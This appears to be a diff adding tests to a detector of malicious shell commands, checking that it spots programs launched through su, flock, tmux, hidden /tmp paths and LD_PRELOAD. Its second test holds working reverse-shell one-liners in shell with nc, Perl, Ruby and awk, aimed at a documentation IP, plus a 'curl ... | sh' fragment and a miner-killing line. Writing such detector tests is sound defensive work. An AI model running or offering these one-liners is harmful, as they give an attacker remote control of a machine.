@@ -128,3 +128,43 @@ test('never throws; every excerpt is short; hostile input takes as long as it is
   for (const piece of ['$(curl ', 'a;', 'curl http://1.2.3.4/a|', 'sh -c "', 'base64 -d ', ' AAAA', 'kill xmrig;', '\\x', 'printf \\x'])
     assertGrowsLinearly(size => void readShell(piece.repeat(size / piece.length)), 8192, piece)
 })
+
+test('programs behind what starts them: other accounts, supervisors, locks, terminals, a directory entered first, a preloaded library', () => {
+  for (const [text, program] of [
+    ['su - bob -c /tmp/.x/y', '/tmp/.x/y'],
+    ['su -c "nohup /tmp/.x/y &" www-data', '/tmp/.x/y'],
+    ['runuser -u bob -- /tmp/.x/y', '/tmp/.x/y'],
+    ['start-stop-daemon --start --pidfile /tmp/p --exec /opt/a/b -- --flag', '/opt/a/b'],
+    ['flock -n /tmp/lock /opt/a/b', '/opt/a/b'],
+    ["flock -n /tmp/lock -c '/opt/a/b x'", '/opt/a/b'],
+    ['systemd-run --unit=x /opt/a/b', '/opt/a/b'],
+    ['screen -dmS name /opt/a/b', '/opt/a/b'],
+    ["tmux new -d '/opt/a/b --x'", '/opt/a/b'],
+    ['cd /var/tmp/.x && ./run', '/var/tmp/.x/run'],
+    ['LD_PRELOAD=/tmp/.l.so /usr/bin/top', '/tmp/.l.so'],
+  ] as const)
+    assert.ok(readShell(text).programs.includes(program), text)
+  for (const text of [
+    'flock -n /tmp/lock /opt/a/b',
+    'start-stop-daemon --pidfile /tmp/p --exec /opt/a/b',
+    'tmux -S /tmp/sock attach',
+    'cd "$X"; ./y',
+  ])
+    assert.ok(!readShell(text).programs.some(program => program.startsWith('/tmp')), text)
+})
+
+test('reverse shells through a FIFO, in one line of Perl or Ruby, in awk; near misses: sockets that run nothing', () => {
+  for (const text of [
+    'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.4 443 >/tmp/f',
+    'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"192.0.2.4:443");STDIN->fdopen($c,r);system$_ while<>;\'',
+    'ruby -rsocket -e \'c=TCPSocket.new("192.0.2.4",443);IO.popen(c.gets)\'',
+    'awk \'BEGIN{s="/inet/tcp/0/192.0.2.4/443";while(1){s|&getline c;system(c)}}\'',
+  ])
+    assert.ok(signs(text).includes('reverse-shell'), text)
+  for (const text of [
+    'python3 -c \'import socket; socket.socket().connect(("127.0.0.1", 80))\'',
+    'echo stats | nc -q1 127.0.0.1 11211',
+    'dmesg | nc logs.example 514',
+  ])
+    assert.ok(!signs(text).includes('reverse-shell'), text)
+})
